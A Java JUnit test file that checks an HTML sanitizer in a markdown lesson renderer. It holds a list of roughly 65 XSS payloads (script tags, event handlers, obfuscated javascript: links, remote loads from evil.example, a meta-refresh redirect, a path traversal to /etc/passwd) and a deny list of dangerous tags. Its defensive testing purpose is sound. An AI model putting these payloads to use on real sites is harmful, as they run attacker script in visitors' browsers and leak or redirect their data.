package dev.carrel.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// Nothing that runs or reaches out comes through, whatever a page tries.
class HostileLessonTest {
    private static final Set<String> NEVER =
            Set.of(
                    "script",
                    "style",
                    "iframe",
                    "object",
                    "embed",
                    "form",
                    "meta",
                    "base",
                    "link",
                    "svg",
                    "math",
                    "video",
                    "audio",
                    "source",
                    "template",
                    "noscript",
                    "frame",
                    "frameset",
                    "applet",
                    "portal",
                    "button",
                    "foreignobject",
                    "xmp",
                    "plaintext",
                    "title",
                    "marquee",
                    "picture",
                    "track",
                    "param",
                    "body",
                    "html",
                    "head");

    static List<String> attacks() {
        return List.of(
                "<script>alert(1)</script>after",
                "text <script>alert(1)</script> after",
                "<script src=https://evil.example/x.js></script>\n\nafter",
                "<SCRIPT\n>alert(1)</SCRIPT >",
                "<script>unclosed\n\nafter",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<img src=x onerror=alert(1)>",
                "<img/src=\"x\"/onerror=alert(1)>",
                "<img src=\"https://evil.example/p.gif\">",
                "<img srcset=\"https://evil.example/p.gif 1x\" src=\"//evil.example/q.gif\">",
                "![x](https://evil.example/p.gif)",
                "![x](data:image/svg+xml;base64,PHN2Zz4=)",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java&#10;script:alert(1))",
                "[x](&#x6A;avascript:alert(1))",
                "[x](<java\tscript:alert(1)>)",
                "[x](\u0001javascript:alert(1))",
                "[x](vbscript:msgbox(1)) [y](data:text/html,<script>alert(1)</script>)",
                "[x]: javascript:alert(1)\n\n[x]",
                "<javascript:alert(1)>",
                "<a href=\"javascript:alert(1)\" onclick=\"alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href='x' style='background:url(https://evil.example)'>x</a>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"https://evil.example/x.swf\"><embed src=\"x\"></object>",
                "<form action=\"https://evil.example\"><input name=a><button>Go</button></form>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<base href=\"https://evil.example/\"><link rel=stylesheet href=x.css>",
                "<svg onload=alert(1)><script>alert(1)</script><text>label</text></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
                "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
                "<video src=\"https://evil.example/v.mp4\" poster=\"https://evil.example/p\"></video>",
                "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
                "<table background=\"https://evil.example/b.png\"><tr><td onmouseover=x()>c</td></table>",
                "<p style=\"position:fixed;inset:0\">over all</p>",
                "<div id=\"lesson\" class=\"question\" data-question=\"x\">x</div>",
                "<section class=\"question\" data-question=\"q\">x</section>",
                "<template><script>alert(1)</script></template><noscript><img src=x></noscript>",
                "<xmp><script>alert(1)</script></xmp><plaintext>rest",
                "<title><img src=x onerror=alert(1)></title><textarea><script>x</script></textarea>",
                "<!--><script>alert(1)</script>--> <!-- x --!><script>alert(1)</script>",
                "<![CDATA[<script>alert(1)</script>]]> <?php echo 1 ?>",
                "<p title='\"><script>alert(1)</script>'>x</p>",
                "`<script>alert(1)</script>` $<script>alert(1)</script>$",
                "```mermaid\nclick A href \"javascript:alert(1)\"\n<script>alert(1)</script>\n```",
                "```\"><script>alert(1)</script>\nx\n```",
                "```quiz\nid: '\"><script>alert(1)</script>'\nkind: '\"><img src=x onerror=y>'\nprompt: <script>alert(1)</script>x\n```",
                "```quiz\nid: a\nkind: single\nprompt: <img src=x onerror=y>\nchoices:\n  - {text: '<script>1</script>a', correct: true}\n  - '[b](javascript:1)'\n```",
                "{% embed url=\"javascript:alert(1)\" %}\n\n{% hint style=\"\\\"><script>\" %}x{% endhint %}",
                "{% code title=\"<script>alert(1)</script>\" %}\n```\nx\n```\n{% endcode %}",
                "!!! note \"<script>alert(1)</script>\"\n    x",
                "> [!NOTE] <script>alert(1)</script>\n> x",
                "# <img src=x onerror=alert(1)> {#\"onclick=x}",
                "[^1]\n\n[^1]: <script>alert(1)</script>x",
                "| <script>a</script> | <b onclick=x>b</b> |\n|---|---|\n| <iframe> | x |",
                "<box-0><box-1/> </box-0>",
                "<a href=\"/lesson/x\" data-term=\"x\" class=\"term\">x</a>",
                "<img src=\"/course/../../etc/passwd\"> <img src=\"\\\\evil.example\\x.png\">",
                "[x](//evil.example/a) [y](\\\\evil.example) [z](https:evil) [w](ftp://evil.example)",
                "<ruby><rt><script>alert(1)</script></rt></ruby>",
                "<p/onclick=alert(1)>x</p><p\u000Conclick=alert(1)>y</p>");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void nothingThatRunsComesThrough(String attack) {
        OneLesson lesson = OneLesson.of("Before.\n\n" + attack + "\n\nBehind everything.\n");
        lesson.page.body().select("*").forEach(HostileLessonTest::check);
        assertThat(lesson.text()).startsWith("Before.").contains("Behind everything.");
        PlainText.check(lesson.document);
        Element fragment = org.jsoup.Jsoup.parseBodyFragment(Fragment.html(attack)).body();
        fragment.select("*").forEach(HostileLessonTest::check);
    }

    private static void check(Element element) {
        if (!element.normalName().equals("body")) {
            assertThat(NEVER).doesNotContain(element.normalName());
        }
        for (Attribute attribute : element.attributes()) {
            String name = attribute.getKey().toLowerCase(Locale.ROOT);
            String value = attribute.getValue();
            assertThat(name).doesNotStartWith("on").isNotIn("style", "srcdoc", "srcset", "poster");
            switch (name) {
                case "href" -> {
                    assertThat(element.normalName()).isEqualTo("a");
                    assertThat(value)
                            .matches("(#|/lesson/|/glossary/|/course/|https?://|mailto:).*");
                }
                case "src" -> assertThat(value).startsWith("/course/").doesNotContain("..");
                case "class" ->
                        assertThat(element.is("section.question") && !isOurs(element)).isFalse();
                default -> assertThat(name).matches("[a-z-]+");
            }
        }
    }

    private static boolean isOurs(Element question) {
        return question.hasAttr("data-kind");
    }

    @Test
    void whatIsTakenOutIsTold() {
        OneLesson lesson =
                OneLesson.of(
                        "Text <font color=red>kept</font>.\n\n<iframe src=x></iframe>\n\n<b onclick=x>y</b>\n");
        assertThat(lesson.told()).containsExactly("html-unsafe 3:1", "html-unsafe 5:1");
        assertThat(lesson.text()).isEqualTo("Text kept.\ny");
    }

    @Test
    void theSafeListIsKept() {
        String html =
                """
                <figure><img src="a.png" alt="A"><figcaption>Cap <kbd>K</kbd></figcaption></figure>

                H<sub>2</sub>O x<sup>2</sup> <mark>m</mark> <abbr title="T">t</abbr><br>end

                <table><tr><th colspan="2">h</th></tr><tr><td>1</td><td align="right">2</td></tr></table>
                """;
        OneLesson lesson = OneLesson.of(html, "m/a.png", "png");
        assertThat(lesson.problems).isEmpty();
        assertThat(lesson.all("figure img, figcaption kbd, sub, sup, mark, abbr[title], br"))
                .hasSize(7);
        assertThat(lesson.one("th").attr("colspan")).isEqualTo("2");
        assertThat(lesson.all("td.right")).hasSize(1);
    }
}
